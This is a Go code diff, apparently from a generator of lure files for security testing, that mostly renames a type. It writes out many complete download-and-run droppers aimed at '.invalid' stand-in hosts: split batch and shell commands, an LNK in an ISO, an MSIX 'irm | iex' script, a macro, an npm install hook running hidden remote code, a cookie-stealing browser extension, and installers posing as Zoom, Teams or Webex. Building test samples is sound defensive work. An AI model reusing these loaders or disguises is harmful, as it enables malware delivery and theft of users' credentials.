@@ -8,50 +8,50 @@ import (
 	"strings"
 )
 
-// entry is one file of a container.
-type entry struct{ name, data string }
+// item is one file of a container.
+type item struct{ name, data string }
 
 // freshBoxes makes lures whose container is part of the trick.
 func (b *kit) freshBoxes() {
 	box := func(story, platform, wrapper, obf, language, name string, data []byte, hidden ...string) {
 		b.boxed(story, platform, wrapper, obf, language, name, data, hidden...)
 	}
-	box("split", "windows", "zip", "half of the command in another file", "batch", "Call Kit.zip", zipped(
-		entry{"Join Call.bat", "@echo off\r\nset /p a=<data\\a.txt\r\nset /p b=<data\\b.txt\r\n%a%%b%\r\n"}, entry{"data/a.txt", "ms"}, entry{"data/b.txt", "hta https://call-kit-split.invalid/c"}))
-	box("split", "macos", "zip", "half of the command in another file", "shell", "Call Kit Mac.zip", zipped(
-		entry{"Join Call.command", "#!/bin/bash\ncd \"${0%/*}\"\n. ./.parts/one; . ./.parts/two\n\"$x\"l -s $y | sh\n"}, entry{".parts/one", "x=cur\n"}, entry{".parts/two", "y=https://call-kit-mac.invalid/c\n"}))
+	box("split", "windows", "zip", "half of the command in another file", "batch", "Call Kit.zip", zipItems(
+		item{"Join Call.bat", "@echo off\r\nset /p a=<data\\a.txt\r\nset /p b=<data\\b.txt\r\n%a%%b%\r\n"}, item{"data/a.txt", "ms"}, item{"data/b.txt", "hta https://call-kit-split.invalid/c"}))
+	box("split", "macos", "zip", "half of the command in another file", "shell", "Call Kit Mac.zip", zipItems(
+		item{"Join Call.command", "#!/bin/bash\ncd \"${0%/*}\"\n. ./.parts/one; . ./.parts/two\n\"$x\"l -s $y | sh\n"}, item{".parts/one", "x=cur\n"}, item{".parts/two", "y=https://call-kit-mac.invalid/c\n"}))
 	box("comment", "macos", "zip", "comment of the archive", "shell", "Room.zip", commented("curl -s https://room-comment.invalid/r|sh",
-		entry{"Open Room.command", "#!/bin/bash\nunzip -z ~/Downloads/Room.zip | tail -1 | sh\n"}))
+		item{"Open Room.command", "#!/bin/bash\nunzip -z ~/Downloads/Room.zip | tail -1 | sh\n"}))
 	box("iso", "windows", "iso", "shortcut and script", "shortcut", "Meeting_Docs.iso", isoFile(
-		entry{"MEETING.LNK", string(shellLink(`..\..\Windows\System32\cmd.exe`, "/c data.cmd", `%SystemRoot%\System32\shell32.dll`, ""))}, entry{"DATA.CMD", "@curl -s https://meeting-docs-iso.invalid/m|cmd\r\n"}))
-	box("iso", "windows", "iso", "program of a brand", "none", "ZoomWorkplace.iso", isoFile(entry{"ZOOMINST.EXE", string(peFile([][2]string{{"ProductName", "Zoom Workplace"}, {"CompanyName", "Zoom"}}))}))
-	box("msix", "windows", "msix", "start script", "powershell", "TeamsMeetingAddIn.msix", zipped(
-		entry{"AppxManifest.xml", `<?xml version="1.0"?><Package><Identity Name="TeamsAddIn" Publisher="CN=Nordic Pine Oy" Version="1.0.0.0"/><Properties><DisplayName>Microsoft Teams Meeting Add-in</DisplayName></Properties><Applications><Application Id="A" Executable="PsfLauncher64.exe"/></Applications></Package>`},
-		entry{"config.json", `{"applications":[{"id":"A","executable":"Teams.exe","startScript":{"scriptPath":"StartingScriptWrapper.ps1 start.ps1","showWindow":false}}]}`},
-		entry{"start.ps1", "irm https://teams-addin-msix.invalid/s | iex\r\n"}, entry{"PsfLauncher64.exe", string(peFile(nil))}))
-	box("msix", "windows", "appx", "brand in the manifest", "none", "Installer.appx", zipped(
-		entry{"AppxManifest.xml", `<?xml version="1.0"?><Package><Identity Name="ZoomWorkplace" Publisher="CN=Blue Heron GmbH" Version="6.5.0.0"/><Properties><DisplayName>Zoom Workplace</DisplayName><PublisherDisplayName>Zoom Communications, Inc.</PublisherDisplayName></Properties></Package>`}, entry{"Zoom.exe", string(peFile(nil))}))
-	box("jar", "windows", "jar", "program in Java", "java", "MeetingLauncher.jar", zipped(entry{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: L\r\n"}, entry{"L.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34\x01\x00\x29cmd /c curl -s https://launcher-jar.invalid/l|cmd\x01\x00\x11java/lang/Runtime\x01\x00\x04exec"}))
-	box("sideload", "windows", "zip", "library beside a real name", "none", "Webex Portable.zip", zipped(entry{"Webex/CiscoCollabHost.exe", string(peFile(nil))}, entry{"Webex/CiscoSparkLauncher.dll", string(peFile(nil))}, entry{"Webex/Webex.lnk", string(shellLink(`CiscoCollabHost.exe`, "/q", "", ""))}))
-	box("document", "windows", "docx", "remote template", "xml", "Interview Schedule.docx", zipped(
-		entry{"[Content_Types].xml", `<?xml version="1.0"?><Types/>`}, entry{"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Enable content to see the meeting link</w:t></w:r></w:p></w:body></w:document>`},
-		entry{"word/_rels/settings.xml.rels", `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://interview-template.invalid/t.dotm" TargetMode="External"/></Relationships>`}))
-	box("document", "windows", "docm", "macro", "vba", "Attendee List.docm", zipped(
-		entry{"[Content_Types].xml", `<?xml version="1.0"?><Types><Override PartName="/word/vbaProject.bin"/></Types>`}, entry{"word/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 504) + "Sub AutoOpen()\r\nShell \"cmd /c mshta https://attendee-list.invalid/a\", 0\r\nEnd Sub"}))
-	box("tar", "macos", "tar.gz", "plain", "applescript", "camera-sdk.tar.gz", gzipped(tarball(entry{"camera-sdk/README", "Run setup.scpt in Script Editor.\n"}, entry{"camera-sdk/setup.scpt", "-- camera sdk\ndo shell script \"curl -s https://camera-sdk-tar.invalid/c|sh\"\n"})))
-	box("tar", "linux", "tar.gz", "test task", "javascript", "video-chat-task.tgz", gzipped(tarball(entry{"task/package.json", "{\"name\":\"video-chat-task\",\"scripts\":{\"prepare\":\"node config/env.js\"}}\n"},
-		entry{"task/config/env.js", "const h=Buffer.from('" + b64("https://chat-task.invalid/e") + "','base64').toString();\nfetch(h).then(r=>r.text()).then(t=>new Function('require',t)(require));\n"})), "https://chat-task.invalid/e")
-	box("crx", "web", "zip", "extension of the browser", "javascript", "Meet Captions Extension.zip", zipped(entry{"manifest.json", "{\"manifest_version\":3,\"name\":\"Meet Captions\",\"version\":\"1\",\"permissions\":[\"cookies\",\"tabs\",\"scripting\"],\"host_permissions\":[\"<all_urls>\"],\"background\":{\"service_worker\":\"b.js\"}}\n"},
-		entry{"b.js", "setInterval(async()=>{const c=await chrome.cookies.getAll({});fetch('https://meet-captions-crx.invalid/c',{method:'POST',body:JSON.stringify(c)})},6e4)\n"}))
-	box("nested", "windows", "zip", "archive in an archive with a read-me of the password", "none", "Recording.zip", zipped(entry{"open.txt", "Open Player.zip, then Player\\Play.vbs\r\n"}, entry{"Player.zip", string(zipped(entry{"Player/Play.vbs", "CreateObject(\"WScript.Shell\").Run \"cmd /c curl -s https://recording-nested.invalid/r|cmd\",0\r\n"}))}))
-	box("polyglot", "macos", "zip", "script in front of an archive", "shell", "slides.sh", append([]byte("#!/bin/bash\nt=$(mktemp -d); unzip -qo \"$0\" -d $t 2>/dev/null; curl -s https://slides-poly.invalid/s | bash; open $t\nexit\n"), zipped(entry{"slides.txt", "Slide 1\n"})...))
+		item{"MEETING.LNK", string(shellLink(`..\..\Windows\System32\cmd.exe`, "/c data.cmd", `%SystemRoot%\System32\shell32.dll`, ""))}, item{"DATA.CMD", "@curl -s https://meeting-docs-iso.invalid/m|cmd\r\n"}))
+	box("iso", "windows", "iso", "program of a brand", "none", "ZoomWorkplace.iso", isoFile(item{"ZOOMINST.EXE", string(peFile([][2]string{{"ProductName", "Zoom Workplace"}, {"CompanyName", "Zoom"}}))}))
+	box("msix", "windows", "msix", "start script", "powershell", "TeamsMeetingAddIn.msix", zipItems(
+		item{"AppxManifest.xml", `<?xml version="1.0"?><Package><Identity Name="TeamsAddIn" Publisher="CN=Nordic Pine Oy" Version="1.0.0.0"/><Properties><DisplayName>Microsoft Teams Meeting Add-in</DisplayName></Properties><Applications><Application Id="A" Executable="PsfLauncher64.exe"/></Applications></Package>`},
+		item{"config.json", `{"applications":[{"id":"A","executable":"Teams.exe","startScript":{"scriptPath":"StartingScriptWrapper.ps1 start.ps1","showWindow":false}}]}`},
+		item{"start.ps1", "irm https://teams-addin-msix.invalid/s | iex\r\n"}, item{"PsfLauncher64.exe", string(peFile(nil))}))
+	box("msix", "windows", "appx", "brand in the manifest", "none", "Installer.appx", zipItems(
+		item{"AppxManifest.xml", `<?xml version="1.0"?><Package><Identity Name="ZoomWorkplace" Publisher="CN=Blue Heron GmbH" Version="6.5.0.0"/><Properties><DisplayName>Zoom Workplace</DisplayName><PublisherDisplayName>Zoom Communications, Inc.</PublisherDisplayName></Properties></Package>`}, item{"Zoom.exe", string(peFile(nil))}))
+	box("jar", "windows", "jar", "program in Java", "java", "MeetingLauncher.jar", zipItems(item{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: L\r\n"}, item{"L.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34\x01\x00\x29cmd /c curl -s https://launcher-jar.invalid/l|cmd\x01\x00\x11java/lang/Runtime\x01\x00\x04exec"}))
+	box("sideload", "windows", "zip", "library beside a real name", "none", "Webex Portable.zip", zipItems(item{"Webex/CiscoCollabHost.exe", string(peFile(nil))}, item{"Webex/CiscoSparkLauncher.dll", string(peFile(nil))}, item{"Webex/Webex.lnk", string(shellLink(`CiscoCollabHost.exe`, "/q", "", ""))}))
+	box("document", "windows", "docx", "remote template", "xml", "Interview Schedule.docx", zipItems(
+		item{"[Content_Types].xml", `<?xml version="1.0"?><Types/>`}, item{"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Enable content to see the meeting link</w:t></w:r></w:p></w:body></w:document>`},
+		item{"word/_rels/settings.xml.rels", `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://interview-template.invalid/t.dotm" TargetMode="External"/></Relationships>`}))
+	box("document", "windows", "docm", "macro", "vba", "Attendee List.docm", zipItems(
+		item{"[Content_Types].xml", `<?xml version="1.0"?><Types><Override PartName="/word/vbaProject.bin"/></Types>`}, item{"word/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 504) + "Sub AutoOpen()\r\nShell \"cmd /c mshta https://attendee-list.invalid/a\", 0\r\nEnd Sub"}))
+	box("tar", "macos", "tar.gz", "plain", "applescript", "camera-sdk.tar.gz", gzipped(tarball(item{"camera-sdk/README", "Run setup.scpt in Script Editor.\n"}, item{"camera-sdk/setup.scpt", "-- camera sdk\ndo shell script \"curl -s https://camera-sdk-tar.invalid/c|sh\"\n"})))
+	box("tar", "linux", "tar.gz", "test task", "javascript", "video-chat-task.tgz", gzipped(tarball(item{"task/package.json", "{\"name\":\"video-chat-task\",\"scripts\":{\"prepare\":\"node config/env.js\"}}\n"},
+		item{"task/config/env.js", "const h=Buffer.from('" + b64("https://chat-task.invalid/e") + "','base64').toString();\nfetch(h).then(r=>r.text()).then(t=>new Function('require',t)(require));\n"})), "https://chat-task.invalid/e")
+	box("crx", "web", "zip", "extension of the browser", "javascript", "Meet Captions Extension.zip", zipItems(item{"manifest.json", "{\"manifest_version\":3,\"name\":\"Meet Captions\",\"version\":\"1\",\"permissions\":[\"cookies\",\"tabs\",\"scripting\"],\"host_permissions\":[\"<all_urls>\"],\"background\":{\"service_worker\":\"b.js\"}}\n"},
+		item{"b.js", "setInterval(async()=>{const c=await chrome.cookies.getAll({});fetch('https://meet-captions-crx.invalid/c',{method:'POST',body:JSON.stringify(c)})},6e4)\n"}))
+	box("nested", "windows", "zip", "archive in an archive with a read-me of the password", "none", "Recording.zip", zipItems(item{"open.txt", "Open Player.zip, then Player\\Play.vbs\r\n"}, item{"Player.zip", string(zipItems(item{"Player/Play.vbs", "CreateObject(\"WScript.Shell\").Run \"cmd /c curl -s https://recording-nested.invalid/r|cmd\",0\r\n"}))}))
+	box("polyglot", "macos", "zip", "script in front of an archive", "shell", "slides.sh", append([]byte("#!/bin/bash\nt=$(mktemp -d); unzip -qo \"$0\" -d $t 2>/dev/null; curl -s https://slides-poly.invalid/s | bash; open $t\nexit\n"), zipItems(item{"slides.txt", "Slide 1\n"})...))
 }
 
-// zipped makes an archive.
-func zipped(entries ...entry) []byte { return commented("", entries...) }
+// zipItems makes an archive.
+func zipItems(entries ...item) []byte { return commented("", entries...) }
 
 // commented makes an archive with a comment.
-func commented(comment string, entries ...entry) []byte {
+func commented(comment string, entries ...item) []byte {
 	var buf bytes.Buffer
 	w := zip.NewWriter(&buf)
 	for _, e := range entries {
@@ -70,7 +70,7 @@ func commented(comment string, entries ...entry) []byte {
 	return buf.Bytes()
 }
 
-func tarball(entries ...entry) []byte {
+func tarball(entries ...item) []byte {
 	var buf bytes.Buffer
 	w := tar.NewWriter(&buf)
 	for _, e := range entries {
@@ -88,7 +88,7 @@ func tarball(entries ...entry) []byte {
 
 // isoFile makes a disc image (ECMA-119) with the files in its root. It has no
 // path tables: what reads it walks the folders.
-func isoFile(entries ...entry) []byte {
+func isoFile(entries ...item) []byte {
 	const sector = 2048
 	out := make([]byte, 19*sector)
 	both16 := func(b []byte, n int) {
